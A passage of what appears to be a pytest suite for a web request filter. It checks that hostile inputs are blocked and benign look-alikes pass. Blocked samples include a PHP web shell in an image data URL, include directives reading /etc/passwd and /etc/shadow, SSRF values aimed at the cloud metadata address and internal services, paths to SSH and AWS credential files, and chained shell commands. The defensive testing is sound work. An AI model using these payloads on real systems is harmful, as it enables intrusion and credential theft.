              "data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=="]:
        assert session.get(edge.url + "/probe", params={"q": v}).status_code == 404, v
        assert send_json(session, edge, v).status_code == 404, v


def test_data_urls_that_run_code_blocked(edge, session):
    for v in [_data("png", b"\x89PNG\r\n\x1a\n<?php system($_GET['c']); ?>"),
              _data("png", b"<?php phpinfo(); ?>"),
              "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
              "data:image/png;base64,not-base64!!"]:
        assert_both(session, edge, v, 403)


# A repository's remote names a file on another server (the scp-like
# "git@host:org/repo.git" and the git+ssh URL); the same name under this
# server's root, or the .git directory, still counts. A drawn cat's ears,
# "/\_/\", lead to no host.
@pytest.mark.parametrize("value", ["git@github.com:acme/storefront.git",
                                   "git+ssh://git@github.com/acme/storefront.git#v2.3.1",
                                   "ssh://git@gitlab.example.com:2222/team/app.git",
                                   "  /\\_/\\\n ( o.o )\n  > ^ <"])
def test_remotes_and_drawings_pass(edge, session, value):
    assert session.get(edge.url + "/probe", params={"q": value}).status_code == 404, value
    assert send_json(session, edge, value).status_code == 404, value


@pytest.mark.parametrize("value", ["/var/www/.git/config", "/.git/HEAD", "storefront.git",
                                   "/\\evil.example", "/\\/evil.example/x"])
def test_this_servers_repository_and_redirects_blocked(edge, session, value):
    assert_both(session, edge, value, 403)


# A document language's inclusion of the OS's places includes the file:
# reST's include directives, LaTeX's \input and friends. The same path in
# a sentence is a mention; a project's own file is no OS place.
@pytest.mark.parametrize("value", [".. include:: /etc/passwd\n   :literal:", "\\input{/etc/passwd}",
                                   "\\verbatiminput{/proc/self/environ}",
                                   ".. literalinclude:: /etc/shadow"])
def test_inclusion_directives_of_os_files_blocked(edge, session, value):
    assert_both(session, edge, value, 403)


@pytest.mark.parametrize("value", ["\\input{chapters/intro}", ".. include:: ../README.rst",
                                   "{% include 'header.html' %}",
                                   ".. literalinclude:: /usr/share/doc/x/example.py"])
def test_inclusion_directives_of_project_files_pass(edge, session, value):
    assert session.get(edge.url + "/probe", params={"q": value}).status_code == 404, value
    assert send_json(session, edge, value).status_code == 404, value


# What a markup element fetches to show it, at an internal or private
# host: an image proxy fetches it server-side. A link, and the same
# element at a public host, pass.
@pytest.mark.parametrize("value", ["[[File:http://127.0.0.1:8080/admin/backup.zip|thumb]]",
                                   "[img]http://10.0.0.12:8080/actuator/heapdump[/img]",
                                   "![x](http://169.254.169.254/latest/meta-data/)",
                                   "<img src=\"http://localhost:9200/_cat/indices\">"])
def test_fetched_markup_to_internal_hosts_blocked(edge, session, value):
    assert_both(session, edge, value, 403)


@pytest.mark.parametrize("value", ["[img]https://cdn.example.com/a.png[/img]",
                                   "[url=http://localhost:3000]local[/url]",
                                   "Run it at http://localhost:3000 and open the page"])
def test_links_and_public_images_pass(edge, session, value):
    assert session.get(edge.url + "/probe", params={"q": value}).status_code == 404, value
    assert send_json(session, edge, value).status_code == 404, value


# What code or a query language is given to fetch, at an internal IP: a
# call's quoted argument, an IRI or a quoted URL after a word that loads
# from it, a field that names a URL to follow. A developer's "localhost"
# in code, a URL at a public host and an nginx upstream pass.
@pytest.mark.parametrize("value", ["=IMPORTDATA(\"http://10.1.2.3:9100/metrics\")",
                                   "LOAD CSV FROM 'http://192.168.1.20/admin/users' AS row",
                                   "SELECT * WHERE { SERVICE <http://127.0.0.1:7474/db> { ?s ?p ?o } }",
                                   "{\"callback_url\": \"http://169.254.169.254/latest/\"}",
                                   "webhook_url=http://0:2375/containers/json"])
def test_urls_given_to_a_fetcher_at_internal_ips_blocked(edge, session, value):
    assert_both(session, edge, value, 403)


@pytest.mark.parametrize("value", ["    >>> URI('http://localhost/foo/bar?123')",
                                   "fetch('https://api.example.com/v1/items')",
                                   "location / {\n    proxy_pass http://127.0.0.1:8080;\n}",
                                   "{\"url\": \"https://10.example.com/docs\"}"])
def test_urls_in_code_at_public_hosts_or_localhost_pass(edge, session, value):
    assert session.get(edge.url + "/probe", params={"q": value}).status_code == 404, value
    assert send_json(session, edge, value).status_code == 404, value


# A regular expression's escapes: "\." is a dot and "\/" a slash, not a
# Windows separator before a hidden name, in a value that escapes a slash
# or is anchored as a pattern is. A credential dotfile, and a Windows path
# to a hidden name, are still refused however they are written.
@pytest.mark.parametrize("value", ["/^https?:\\/\\/(www\\.)?example\\.org\\/items\\/\\d+$/",
                                   "^static\\.min\\.css$",
                                   "^cdn\\.example\\.net\\/assets\\/"])
def test_patterns_with_escaped_dots_pass(edge, session, value):
    assert session.get(edge.url + "/probe", params={"q": value}).status_code == 404, value
    assert send_json(session, edge, value).status_code == 404, value


@pytest.mark.parametrize("value", ["C:\\Users\\bob\\.ssh\\/id_rsa", "..\\..\\.git\\config",
                                   "\\.aws\\config", "C:\\Users\\bob\\.hidden\\notes.txt"])
def test_windows_paths_to_hidden_names_blocked(edge, session, value):
    assert_both(session, edge, value, 403)


# A line that enters a directory first ("cd /opt/jobs && ./run.sh >
# /var/log/x.log 2>&1", a crontab's after its schedule) runs its job
# there and appends to its log: no second command is chained on. A
# separator before the cd, or a command chained after the job, still is.
@pytest.mark.parametrize("value", [
    "15 3 * * * cd /opt/jobs && ./run.sh > /var/log/nightly.log 2>&1",
    "cd /opt/jobs && ./.venv/bin/python nightly.py > /var/log/nightly.log 2>&1",
    "@daily cd /srv/app && make report >> /var/log/report.log 2>&1"])
def test_a_job_run_in_its_directory_writing_its_log_passes(edge, session, value):
    assert session.get(edge.url + "/probe", params={"q": value}).status_code == 404, value
    assert send_json(session, edge, value).status_code == 404, value


@pytest.mark.parametrize("value", ["cd /tmp && id; cat /etc/shadow > /var/log/a",
                                   "cd /tmp && echo hi > /var/log/a; id"])
def test_a_command_chained_beside_a_log_write_still_refused(edge, session, value):
    assert_both(session, edge, value, 403)
